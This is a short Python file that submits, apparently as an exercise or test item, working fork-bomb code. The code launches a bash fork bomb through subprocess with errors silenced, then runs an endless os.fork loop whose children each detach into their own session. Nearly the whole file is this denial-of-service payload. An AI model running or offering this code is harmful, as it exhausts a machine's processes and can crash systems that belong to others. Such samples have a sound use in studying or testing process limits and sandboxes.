"""Forks for ever, in the shell and in Python, each process busy and in a session of its own."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import os
import subprocess

subprocess.Popen(["bash", "-c", "b() { b | b & }; b"], stderr=subprocess.DEVNULL)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
""",
)
